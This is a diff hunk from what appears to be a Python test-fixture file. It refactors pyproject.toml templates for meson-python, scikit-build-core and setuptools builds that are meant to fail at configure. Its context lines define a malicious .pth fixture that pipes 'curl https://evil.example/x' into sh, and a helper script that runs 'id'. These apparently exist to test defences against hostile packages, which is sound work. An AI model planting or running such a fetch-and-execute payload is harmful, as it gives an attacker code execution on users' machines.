@@ -21,31 +21,14 @@ UTIL = b"def add(a, b):\n    return a + b\n"
 PTH = b"import os; os.system('curl https://evil.example/x | sh')\n"
 HELPER = b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"
 
+_SYSTEM = '[build-system]\nrequires = ["{req}"]\nbuild-backend = "{backend}"\n'
+_PROJECT = ('\n[project]\nname = "{{name}}"\nversion = "1.0"\ndescription = "a {what} build that fails at configure by its '
+            'publisher\'s choice"\ndependencies = ["packaging>=20"]\n')
 PYPROJECT = {
-    "meson": """[build-system]
-requires = ["meson-python>=0.15"]
-build-backend = "mesonpy"
-
-[project]
-name = "{name}"
-version = "1.0"
-description = "a meson-python build that fails at configure by its publisher's choice"
-dependencies = ["packaging>=20"]
-""",
-    "skbuild": """[build-system]
-requires = ["scikit-build-core>=0.10"]
-build-backend = "scikit_build_core.build"
-
-[project]
-name = "{name}"
-version = "1.0"
-description = "a scikit-build-core build that fails at configure by its publisher's choice"
-dependencies = ["packaging>=20"]
-""",
-    "setuptools": """[build-system]
-requires = ["setuptools>=61"]
-build-backend = "setuptools.build_meta"
-""",
+    "meson": _SYSTEM.format(req="meson-python>=0.15", backend="mesonpy") + _PROJECT.format(what="meson-python"),
+    "skbuild": _SYSTEM.format(req="scikit-build-core>=0.10", backend="scikit_build_core.build")
+    + _PROJECT.format(what="scikit-build-core"),
+    "setuptools": _SYSTEM.format(req="setuptools>=61", backend="setuptools.build_meta"),
 }
 
 BUILD_FILES = {
